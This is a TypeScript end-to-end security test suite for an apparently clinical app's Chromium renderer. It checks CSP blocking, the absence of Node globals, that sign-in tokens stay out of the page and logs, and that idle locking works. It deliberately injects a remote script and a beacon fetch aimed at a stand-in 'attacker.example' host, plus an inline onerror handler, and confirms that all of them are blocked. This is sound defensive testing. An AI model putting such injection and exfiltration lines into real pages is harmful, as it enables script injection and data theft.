/**
 * Attacks on the renderer, in a real Chromium against the real host: what a compromised or curious
 * page can reach (no Node globals, no inline or remote script, no PHI while locked), and whether any
 * secret of the Identity Center sign-in ever reaches the page, its storage, the contract traffic or
 * the log. Identity Center is the local stand-in; time is a manual clock, so nothing sleeps.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SOURCE_ROOT } from '../../main/app/paths.js';
import { createHandlerRegistry } from '../../main/handlers.js';
import { startHost, type RunningHost } from '../../main/host/hostServer.js';
import { createMemoryLogger } from '../../main/log/logger.js';
import { FileKeySealer } from '../../main/security/secretSealer.js';
import { Services } from '../../main/services.js';
import { ManualClock } from '../../main/session/clock.js';
import { launchChromium } from '../support/browser.js';
import { IdentityCenterStandIn } from '../standins/sso/identityCenterStandIn.js';

const PIN = 'ward-7-pin';

describe('security of the renderer', () => {
  let dir: string;
  let clock: ManualClock;
  let standIn: IdentityCenterStandIn;
  let services: Services;
  let host: RunningHost;
  let browser: Browser;
  let log: ReturnType<typeof createMemoryLogger>;
  /** Contract traffic: what the page sent, and what main sent back. */
  const sent: string[] = [];
  const received: string[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'atrium-e2e-security-'));
    clock = new ManualClock(Date.now());
    standIn = await new IdentityCenterStandIn({ now: () => clock.now() }).start();
    const policyFile = join(dir, 'policy.json');
    writeFileSync(policyFile, JSON.stringify({ enforced: { 'aws.sso.startUrl': 'https://hospital.awsapps.com/start', 'aws.region': 'eu-west-1' } }));
    log = createMemoryLogger();
    services = new Services({
      mode: 'host',
      appVersion: '0.0.0-test',
      userDataDir: dir,
      resourcesDir: dir,
      log,
      createSealer: () => new FileKeySealer(dir),
      policyFile,
      clock,
      ssoEndpoints: { oidc: standIn.url, portal: standIn.url },
    });
    const registry = createHandlerRegistry(services);
    // Until the worklist methods land, updates.status plays a PHI-reading method (nothing on the worklist view calls it).
    registry.markPhi('updates.status');
    host = await startHost({ services, registry, rendererDir: join(SOURCE_ROOT, 'out', 'renderer') });
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await host?.close();
    await services?.dispose();
    await standIn?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  async function open(): Promise<Page> {
    const page = await browser.newPage();
    page.on('websocket', (ws) => {
      ws.on('framesent', (f) => sent.push(String(f.payload)));
      ws.on('framereceived', (f) => received.push(String(f.payload)));
    });
    await page.goto(host.launchUrl);
    await page.waitForSelector('[data-testid="session-banner"]');
    return page;
  }

  /** A call straight over the socket, as a compromised page would make it, ignoring the UI. */
  const rawCall = (page: Page, method: string, input?: unknown) =>
    page.evaluate(
      ([m, i]) =>
        new Promise<{ ok: boolean; error?: { code: string } }>((resolve, reject) => {
          const ws = new WebSocket(`ws://${location.host}/rpc`);
          ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: m, input: i }));
          ws.onmessage = (e) => {
            const message = JSON.parse(String(e.data)) as { id?: number; ok: boolean; error?: { code: string } };
            if (message.id === 1) {
              ws.close();
              resolve(message);
            }
          };
          ws.onerror = () => reject(new Error('socket failed'));
        }),
      [method, input] as const,
    );

  it('gives the page no require, process, Buffer or module', async () => {
    const page = await open();
    const globals = await page.evaluate(() => {
      const g = globalThis as Record<string, unknown>;
      return ['require', 'process', 'Buffer', 'module', 'global', '__dirname', 'setImmediate'].map((name) => `${name}:${typeof g[name]}`);
    });
    expect(globals).toEqual(['require:undefined', 'process:undefined', 'Buffer:undefined', 'module:undefined', 'global:undefined', '__dirname:undefined', 'setImmediate:undefined']);
    await page.close();
  });

  it('blocks injected inline and remote scripts, inline handlers and foreign connections by the CSP', async () => {
    const page = await open();
    const result = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const w = window as unknown as Record<string, unknown>;
      const inline = document.createElement('script');
      inline.textContent = 'window.__inline = true';
      document.body.append(inline);
      const remote = document.createElement('script');
      remote.src = 'https://attacker.example/steal.js';
      document.body.append(remote);
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__handler = true');
      img.src = 'data:,not-an-image';
      document.body.append(img);
      const beacon = await fetch('https://attacker.example/beacon').then(
        () => 'sent',
        () => 'blocked',
      );
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { violations, inline: w.__inline, handler: w.__handler, beacon };
    });
    expect(result.inline).toBeUndefined();
    expect(result.handler).toBeUndefined();
    expect(result.beacon).toBe('blocked');
    expect(result.violations).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src-elem inline/),
        'script-src-elem https://attacker.example/steal.js',
        expect.stringMatching(/^script-src-attr inline/),
        'connect-src https://attacker.example/beacon',
      ]),
    );
    await page.close();
  });

  it('signs in with Identity Center; no token, key or secret reaches the page, its storage, the socket or the log', async () => {
    const page = await open();
    await page.click('text=Sign in with a code');
    await page.waitForSelector('text=Signed in as Coder (Radiology)');
    // First sign-in: choose the unlock PIN.
    await page.fill('#first-pin', PIN);
    await page.click('text=Set PIN');
    await page.waitForSelector('#first-pin', { state: 'detached' });
    // Credentials are in main (a real client could sign with them) ...
    const creds = await services.identityCenter.credentials();
    expect(creds.accessKeyId).toMatch(/^ASIASTANDIN/);
    const secrets = [...standIn.issued, creds.secretAccessKey, creds.sessionToken as string, PIN];
    expect(secrets.length).toBeGreaterThanOrEqual(7);

    // ... and nowhere the page can see.
    const exposed = await page.evaluate(async () => {
      const storage = (s: Storage) => Object.keys(s).map((k) => `${k}=${s.getItem(k)}`).join('\n');
      const databases = 'databases' in indexedDB ? (await indexedDB.databases()).map((d) => d.name).join(',') : '';
      const cacheKeys = 'caches' in self ? (await caches.keys()).join(',') : '';
      return [document.documentElement.outerHTML, storage(localStorage), storage(sessionStorage), document.cookie, databases, cacheKeys].join('\n');
    });
    const fromMain = received.join('\n');
    const fromPage = sent.join('\n');
    const logged = JSON.stringify(log.lines);
    expect(fromPage).toContain('session.signIn.start'); // the capture worked
    expect(fromMain).toContain('Coder (Radiology)');
    for (const secret of secrets) {
      expect(exposed.includes(secret), 'page').toBe(false);
      expect(fromMain.includes(secret), 'contract traffic from main').toBe(false);
      expect(logged.includes(secret), 'log').toBe(false);
      // The page sends one secret only: the PIN the person typed, to main, which keeps a hash.
      if (secret !== PIN) expect(fromPage.includes(secret), 'contract traffic from the page').toBe(false);
    }
    expect(exposed).not.toMatch(/ASIA[A-Z0-9]{12}/);
    await page.close();
  });

  it('locks when idle: the view is unmounted, PHI calls are refused even over a raw socket, the PIN unlocks', async () => {
    const page = await open();
    await page.waitForSelector('#worklist-title');
    expect(await rawCall(page, 'updates.status')).toMatchObject({ ok: true });

    clock.advance(16 * 60_000);
    expect(services.sessionLock.isLocked()).toBe(true); // what the 15 s timer does in the app
    await page.waitForSelector('[data-testid="lock-screen"]');
    expect(await page.$('#worklist-title')).toBeNull();
    expect(await rawCall(page, 'updates.status')).toMatchObject({ ok: false, error: { code: 'locked' } });
    // A compromised page cannot talk its way round the lock.
    expect(await rawCall(page, 'session.lock.setSecret', { secret: 'attacker-pin' })).toMatchObject({ ok: false });
    expect(await rawCall(page, 'session.activity')).toMatchObject({ ok: true, result: { locked: true } });

    await page.fill('#unlock-secret', 'not-the-pin');
    await page.click('button:has-text("Unlock")');
    await page.waitForSelector('[data-testid="lock-screen"] [role="alert"]');
    expect(await page.$('#worklist-title')).toBeNull();

    await page.fill('#unlock-secret', PIN);
    await page.click('button:has-text("Unlock")');
    await page.waitForSelector('#worklist-title');
    expect(await rawCall(page, 'updates.status')).toMatchObject({ ok: true });
    expect(JSON.stringify(log.lines)).not.toContain('not-the-pin');
    await page.close();
  });
});
